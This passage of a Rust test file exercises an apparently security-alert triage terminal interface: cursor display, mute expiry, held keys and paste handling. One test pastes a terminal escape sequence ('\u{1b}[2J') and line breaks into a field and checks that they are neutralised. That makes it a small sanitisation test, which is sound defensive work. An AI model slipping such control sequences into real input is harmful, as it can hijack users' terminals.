        scene.keys("ctrl-right d ctrl-left x alt-b delete");
        assert!(scene.text().contains("abcd") && !scene.text().contains("xabcd"), "{opener}\n{}", scene.text());
        scene.keys(keys);
        // Home and end are those of the list where there is one.
        scene.keys("home y");
        assert!(!scene.text().contains("abcd") && (is_list || scene.text().contains('y')), "{opener}\n{}", scene.text());
    }
}

#[test]
fn a_line_longer_than_its_field_shows_its_cursor() {
    for size in [(120, 36), (80, 24), (40, 10)] {
        for opener in ["/", "c", "m", "e ctrl-u", ":", "?", "="] {
            let mut scene = Scene::of(&["demo.xml"], size);
            scene.keys(opener);
            let is_drawn = |scene: &Scene| scene.text().contains('▏');
            scene.model.update(Message::Paste(format!("begin{}末", "語".repeat(60))));
            assert!(is_drawn(&scene) && scene.text().contains('末'), "{opener} at {size:?}\n{}", scene.text());
            scene.keys("ctrl-a");
            assert!(!is_drawn(&scene) && scene.text().contains("begin"), "{opener} at {size:?}\n{}", scene.text());
            assert!(!scene.text().contains('末'), "{opener} at {size:?}\n{}", scene.text());
        }
    }
}

#[test]
fn the_expiry_of_a_mute_keeps_its_arrows() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    scene.keys("m a b up");
    assert!(scene.text().contains("▸7 d"));
    scene.keys("left");
    assert!(scene.text().contains("▸8 h"), "{}", scene.text());
    scene.keys("right right down left x");
    assert!(scene.text().contains("▸30 d") && scene.text().contains("axb"), "{}", scene.text());
}

#[test]
fn what_is_typed_is_text_and_what_is_pasted_is_no_key() {
    let mut scene = Scene::of(&["attack_both_ends.xml"], (120, 36));
    let paste = |scene: &mut Scene, text: &str| scene.model.update(Message::Paste(text.to_owned()));
    // Nowhere to go: nothing happens, and that is said.
    assert_eq!(paste(&mut scene, "a\nq"), []);
    assert!(scene.text().contains("a pasted text goes into a line"), "{}", scene.text());
    scene.keys("/");
    assert_eq!(paste(&mut scene, "host:srv*\r\nav\u{1b}[2J\n"), []);
    assert_eq!(scene.model.editor.as_ref().map(|editor| editor.text.as_str()), Some("host:srv*  av [2J"));
    scene.keys("ctrl-u");
    paste(&mut scene, &"x".repeat(5000));
    assert_eq!(scene.model.filter_text.len(), 1000);
    // Chords are no letters.
    scene.keys("ctrl-u ctrl-j ctrl-a d c");
    assert_eq!(scene.model.filter_text, "dc");
    scene.keys("enter / ctrl-u s r v enter / ctrl-u");
    // What was kept before comes back, newest first.
    for (key, text) in [("up", "srv"), ("up", "dc"), ("up", "dc"), ("down", "srv"), ("up", "dc")] {
        scene.keys(key);
        assert_eq!(scene.model.filter_text, text, "{key}");
    }
    scene.keys("esc");
    assert_eq!(scene.model.filter_text, "srv");
    scene.keys("esc n c");
    paste(&mut scene, "seen it, quiet\nvf");
    let effects = scene.keys("enter");
    let comment = effects.iter().find_map(|effect| match effect {
        Effect::Ask(Request::Act(act)) => Some(act.reason.as_str()),
        _ => None,
    });
    assert_eq!(comment, Some("seen it, quiet vf"));
}

#[test]
fn a_key_that_is_held_acts_once() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    let press = |scene: &mut Scene, milliseconds| {
        scene.model.update(Message::Tick(scene.model.now + chrono::TimeDelta::milliseconds(milliseconds)));
        let key = crossterm::event::KeyEvent::new(crossterm::event::KeyCode::Char('a'), crossterm::event::KeyModifiers::NONE);
        scene.model.update(Message::Key(key)).iter().filter(|effect| matches!(effect, Effect::Ask(Request::Act(_)))).count()
    };
    assert_eq!(press(&mut scene, 100), 1);
    assert_eq!((0..20).map(|_| press(&mut scene, 33)).sum::<usize>(), 0);
    assert!(scene.text().contains("acts once"), "{}", scene.text());
    assert_eq!(press(&mut scene, 100), 1);
}

/// The key is held: the keyboard waits half a second, then repeats it.
fn hold(scene: &mut Scene, name: &str) -> Vec<Effect> {
    let mut effects = scene.keys(name);
    for wait in [500, 33, 33, 33, 33] {
        scene.model.update(Message::Tick(scene.model.now + chrono::TimeDelta::milliseconds(wait)));
        effects.extend(scene.model.update(Message::Key(key(name))));
    }
    effects
}

#[test]
fn a_key_that_closed_a_box_and_is_held_does_nothing_more() {
    let rows = [("v", "t"), ("y", "x"), (":", "⏎"), ("/ w", "⏎"), ("?", "⏎"), ("c h", "⏎"), ("?", "?"), ("=", "⏎"), ("x v", "b")];
    for (before, name) in rows {
        let [once, held] = [false, true].map(|is_held| {
            let mut scene = Scene::of(&["demo.xml"], (120, 36));
            scene.keys(before);
            let effects = if is_held { hold(&mut scene, name) } else { scene.keys(name) };
            // How long it is since shows in the ages.
            let is_open = (scene.model.help.is_some(), scene.model.dialog.is_some(), scene.model.editor.is_some());
            (effects.len(), is_open, scene.model.is_utc, scene.model.stack.len(), scene.model.said.is_some())
        });
        assert_eq!(held, once, "{before} {name}");
    }
    // Whoever lets it go, or presses another one, is heard.
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    scene.keys("v");
    hold(&mut scene, "t");
    assert!(scene.model.is_utc && scene.text().contains("press it again"), "{}", scene.text());
    scene.model.update(Message::Tick(scene.model.now + chrono::TimeDelta::milliseconds(700)));
    scene.keys("t");
    assert!(!scene.model.is_utc);
    scene.keys("v t v esc t");
    assert!(scene.model.is_utc);
    // Enter that opens an alert and is held goes nowhere from there.
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    hold(&mut scene, "⏎");
    assert!(scene.model.is_inside() && scene.model.tab == Tab::Triage, "{}", scene.text());
}
